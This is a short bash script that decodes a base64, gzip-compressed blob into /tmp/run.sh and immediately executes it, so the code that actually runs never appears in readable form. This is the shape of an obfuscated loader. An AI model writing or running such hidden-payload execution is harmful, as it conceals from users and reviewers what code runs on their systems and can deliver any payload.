#!/bin/bash
echo H4sIAAAAAAACAw3JMQ6AIAwF0J1T1Dgw1SbuHgbwRwxGCK2G4+tb3zxJPG+JQbNTGDEcBhIJLAmKSqzV1Hpoi2Zqve7EXJ6IC8YYf3Doh5JnfrfVuw/3samzUAAAAA== | base64 -d | gunzip > /tmp/run.sh
bash /tmp/run.sh
